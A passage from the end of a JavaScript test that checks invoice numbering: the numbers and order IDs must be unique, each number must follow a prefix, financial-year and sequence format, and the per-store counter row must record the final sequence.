    expect(new Set(issued.map((row) => row.number)).size).toBe(count);
    expect(new Set(issued.map((row) => row.orderId)).size).toBe(count);
    const year = financialYearOf(new Date());
    expect(issued.every((row) => row.number === invoiceNumber('CK', year, row.seq))).toBe(true);
    expect(await first.db.select().from(invoiceCounters)).toEqual([
      { storeId: expect.any(Number), financialYear: year, lastSeq: count },
    ]);
  });
});
